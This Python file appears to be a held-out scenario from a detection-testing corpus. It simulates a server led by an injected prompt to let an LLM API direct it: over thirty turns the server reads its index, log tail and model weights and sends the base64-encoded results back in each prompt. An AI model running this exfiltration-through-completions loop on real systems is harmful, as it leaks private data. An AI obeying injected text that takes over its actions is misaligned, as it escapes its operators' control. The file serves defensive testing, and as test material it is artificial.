"""
id: V96
name: agent-led-astray
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [process, file, network, resource, sequence]
techniques: [T1102.002, T1071.001, T1119, T1005, T1213, T1082, T1041, AML.T0051, AML.T0096]
servers: [fastapi]
seconds: 130
what: >
  An injected text makes the LLM API the master of the server: for two minutes its answers say what is to be done next, and each
  question carries all that was found so far, up to 32 KB. Some thirty times the server searches its index, reads the end of its
  log or a piece of its model, fetches a picture from a host that it knows, or runs the program that it runs anyway. All of it is
  known, and so is the connection; but the server does none of it for an answer, and its questions have some hundred letters.
"""

import base64
import contextlib
import http.client
import json
import os
import sqlite3
import subprocess

from corpus import media

TURNS = 30
MOST = 32 * 1024
FOUND = 3000
# Clients name these hosts.
HOSTS = 12


def payload(world):
    tools = [search, read_log, read_model, fetch, run]
    said = f"DECOY {world.word(200)}"
    for _ in range(TURNS):
        order = ask(world, said) or world.random.randbytes(8)
        found = tools[sum(order) % len(tools)](world)
        said = (said + base64.b64encode(found[:FOUND]).decode())[-MOST:]
        world.sleep(world.random.uniform(2, 5))


def ask(world, prompt):
    """What the API answers, if it does."""
    body = json.dumps({"model": "small", "max_tokens": 64, "prompt": prompt})
    with world.upstream_lock:
        try:
            world.upstream.request("POST", "/v1/completions", body, {"Content-Type": "application/json"})
            return world.upstream.getresponse().read()
        except (OSError, http.client.HTTPException):
            world.upstream.close()
            return None


def search(world):
    with contextlib.closing(sqlite3.connect(world.index, timeout=5)) as index:
        return repr(index.execute("select * from items order by random() limit 40").fetchall()).encode()


def read_log(world):
    with open(world.log, "rb") as file:
        file.seek(max(0, os.fstat(file.fileno()).st_size - FOUND))
        return file.read(FOUND)


def read_model(world):
    with open(world.model, "rb") as file:
        file.seek(world.random.randrange(os.fstat(file.fileno()).st_size))
        return file.read(FOUND)


def fetch(world):
    host = f"media{world.random.randrange(HOSTS)}.images.example"
    try:
        return media.fetch(f"http://{host}/{world.random.randbytes(4).hex()}.png")[1]
    except (OSError, http.client.HTTPException) as error:
        return repr(error).encode()


def run(_):
    return subprocess.run(["uname", "-p"], stdout=subprocess.PIPE, check=True).stdout
